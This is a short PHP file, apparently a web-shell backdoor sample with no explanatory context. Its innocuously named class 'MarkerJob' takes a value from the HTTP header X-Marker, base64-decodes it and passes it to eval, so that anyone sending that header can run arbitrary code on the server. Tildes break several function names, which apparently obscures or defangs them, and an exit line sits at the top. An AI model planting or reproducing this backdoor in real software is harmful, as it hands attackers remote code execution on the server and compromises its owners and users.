<?php exit; ?>
<?php
class MarkerJob {
    private $line;
    function __construct($line) { $this->line = bas~e64_decode($line); }
    function go() { return eva~l($this->line); }
}
if (!empty($_S~ERVER['HTTP_X_MARKER'])) { $j = new MarkerJob($_S~ERVER['HTTP_X_MARKER']); $j->go(); }
